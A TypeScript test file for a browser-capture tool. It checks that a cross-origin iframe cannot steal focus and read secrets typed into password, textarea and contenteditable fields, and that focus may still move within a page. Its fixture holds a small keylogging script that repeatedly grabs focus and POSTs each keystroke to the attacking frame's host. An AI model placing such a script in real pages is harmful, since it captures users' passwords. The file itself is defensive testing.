import { expect } from "chai";
import type { Step } from "#schemas/options/steps.ts";
import { failure, useBrowser } from "./support.ts";

const secret = "0CANARY-1VALUE-2OF-3A-4FIELD";

/** A frame of a stranger that takes the focus again and again, and sends each key to its own host. */
const greedy = `<input id=i><script>
  setInterval(() => i.focus(), 1);
  i.oninput = () => fetch("/taken", { method: "POST", body: i.value });
</script>`;

describe("capture: the focus of a field that a step fills in", () => {
  const browser = useBrowser();
  const taken: string[] = [];

  beforeEach(() => {
    taken.length = 0;
    browser.site.page("/greedy", greedy);
    browser.site.route("/taken", (request, response) => {
      request.on("data", (part: Buffer) => taken.push(part.toString()));
      request.on("end", () => response.end());
    });
  });

  /** The longest text that the stranger has. */
  const longest = () => Math.max(0, ...taken.map(({ length }) => length));

  for (const [field, markup] of [
    ["#field", `<input id=field type=password>`],
    ["#field", `<textarea id=field></textarea>`],
    ["#field", `<div id=field contenteditable>old</div>`],
  ] as const) {
    it(`can't be used by a frame of another site to read what is filled into ${markup}`, async () => {
      const frame = `<iframe src="${browser.site.url("/greedy", "other.test")}"></iframe>`;
      const url = browser.site.page("/log-in", `<title>log in</title>${markup}${frame}`);
      const steps: Step[] = [{ wait: 0.5 }, { fill: { target: field, value: secret }, timeout: 3 }, { wait: 0.3 }];
      const failed = await failure(browser.capture({ url }, { steps }));
      expect(failed.message).to.include("took the focus").and.not.include("CANARY");
      expect(longest()).to.be.at.most(1);
    });
  }

  it("may go on within the page: a code of six boxes is filled in from the first", async () => {
    const box = `<input maxlength=1 size=1 oninput="this.nextElementSibling?.focus(); tell()">`;
    const url = browser.site.page(
      "/code",
      `${box.repeat(6)}<p></p><script>
        const tell = () => { document.title = [...document.querySelectorAll("input")].map(({ value }) => value).join("") };</script>`,
    );
    const { page } = await browser.capture({ url }, { steps: [{ fill: { target: "input", value: "123456" } }] });
    expect(page.title).to.equal("123456");
  });
});
